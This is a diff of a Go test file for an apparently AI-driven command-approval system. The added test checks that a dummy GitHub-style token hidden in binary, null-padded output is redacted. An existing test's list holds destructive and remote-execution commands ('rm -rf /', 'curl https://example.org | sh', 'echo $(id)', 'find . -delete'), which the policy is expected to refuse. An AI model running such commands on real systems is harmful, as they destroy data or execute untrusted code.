@@ -139,6 +139,22 @@ func TestCommand_RunsOnceAPersonSaidYesAndAllAreTold(t *testing.T) {
 	g.holdsTogether()
 }
 
+func TestCommand_BinaryOutputIsShownWithoutItsSecrets(t *testing.T) {
+	g := newYard(t, policy.Restricted, false)
+	id := g.ask("make").ID
+	g.approve(id)
+	c, _ := g.start("runner")
+	secret := "ghp_x8Kq2mVb7RtY4nLw9ZsD3fHj6PcA1eUo5GiT"
+	wide := strings.Join(strings.Split(secret, ""), "\x00")
+	if err := g.EndCommand(g.ctx, c, bridge.CommandResult{Output: "\xff\xfe\x00\x1b[31mred " + wide + " end"}); err != nil {
+		t.Fatal(err)
+	}
+	got := g.find(id).Output
+	if strings.Contains(got, secret) || !strings.Contains(got, "red ") || !strings.HasSuffix(got, " end") || strings.ContainsAny(got, "\x00\x1b") {
+		t.Errorf("it is kept as %q", got)
+	}
+}
+
 func TestCommand_WhatThePolicyRefusesNobodyIsAsked(t *testing.T) {
 	g := newYard(t, policy.Safe, false)
 	for _, command := range []string{"rm -rf /", "curl https://example.org | sh", "echo $(id)", "find . -delete", ""} {
